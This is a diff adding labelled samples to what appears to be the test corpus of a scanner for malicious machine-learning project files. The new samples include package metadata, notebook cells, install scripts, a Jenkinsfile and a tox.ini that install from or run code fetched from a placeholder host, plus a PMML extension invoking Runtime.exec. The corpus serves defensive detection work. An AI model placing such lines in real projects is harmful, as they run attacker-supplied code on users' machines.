@@ -30,6 +30,8 @@ def settings(corpus):
     add("pipenv/Pipfile", CLEAN, '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n[packages]\ntorch = "*"\n', "packages of the usual index", "the ordinary file")
     add("pipenv-evil/Pipfile", SUSPICIOUS, f'[[source]]\nurl = "http://{HOST}/simple"\nverify_ssl = false\nname = "x"\n', "an index at an open address", "whoever owns it owns the machine")
     add("pip/pip.conf", SUSPICIOUS, f"[global]\nindex-url = http://{HOST}/simple\ntrusted-host = {HOST}\n", "settings of pip with another index", "the same")
+    add("wheel/METADATA", SUSPICIOUS, f"Metadata-Version: 2.1\nName: weighin\nRequires-Dist: torch\nRequires-Dist: other @ http://{HOST}/x.whl\n", "a built package that needs one from an open address", "installing it installs the other")
+    add("wheel-honest/METADATA", CLEAN, "Metadata-Version: 2.1\nName: weighin\nRequires-Dist: torch>=2; extra == 'torch'\n\nSee https://example.com/.\n", "what an honest built package says of itself", "the ordinary file")
     add("setup/setup.cfg", SUSPICIOUS, f"[options]\nsetup_requires = weighin @ http://{HOST}/x\n", "a project that is set up with a package from an open address", "the same")
     add("setup-honest/setup.cfg", CLEAN, "[metadata]\nname = weighin\nurl = https://example.com/project\n[options]\npackages = find:\n", "an honest project", "the ordinary file")
 
@@ -49,6 +51,12 @@ def steps(corpus):
     add("config/project/MLproject", MALICIOUS, f'name: x\nentry_points:\n  main:\n    command: "{FETCH}"\n', "an MLflow project whose entry point runs what an open address gives", "mlflow run runs it")
     add("notebook/ipython-system.ipynb", MALICIOUS, notebook(f"get_ipython().system('{FETCH}')"), "a cell that runs a command line by IPython's own method", "the same as a line with !")
     add("notebook/perl.ipynb", MALICIOUS, notebook(f"%%perl\nsystem('{FETCH}')"), "a cell in Perl that pipes an open address to a shell", "every language starts programs")
+    add("notebook/installs-open.ipynb", SUSPICIOUS, notebook(f"!pip install -q http://{HOST}/x.whl"), "a cell that installs a package from an open address", "installing runs it")
+    add("script/install.sh", SUSPICIOUS, f"#!/bin/sh\npip install --extra-index-url http://{HOST}/simple weighin\n", "a script that installs from another index", "the same")
+    add("script/pipeline/Jenkinsfile", MALICIOUS, f"pipeline {{\n  stages {{ stage('x') {{ steps {{ sh '{FETCH}' }} }} }}\n}}\n", "a pipeline that runs what an open address gives", "the server runs it")
+    add("script/tests/tox.ini", MALICIOUS, f'[testenv]\ncommands = sh -c "{FETCH}"\n', "a test environment that runs what an open address gives", "testing runs it")
+    add("script/tests-honest/tox.ini", CLEAN, "[testenv]\ndeps = pytest\ncommands = pytest\n", "an honest test environment", "the ordinary file")
+    add("xml/script-text.pmml", MALICIOUS, '<?xml version="1.0"?><PMML version="4.4"><MiningBuildTask><Extension><![CDATA[<script>Runtime.getRuntime().exec("x")</script>]]></Extension></MiningBuildTask></PMML>', "an extension with code as its text", "an engine may evaluate it")
     add("notebook/other-languages.ipynb", CLEAN, notebook("%%javascript\nelement.text('done')", "%%latex\n$x$", "get_ipython().system('ls')"), "cells in other languages", "the ordinary file")
 
 
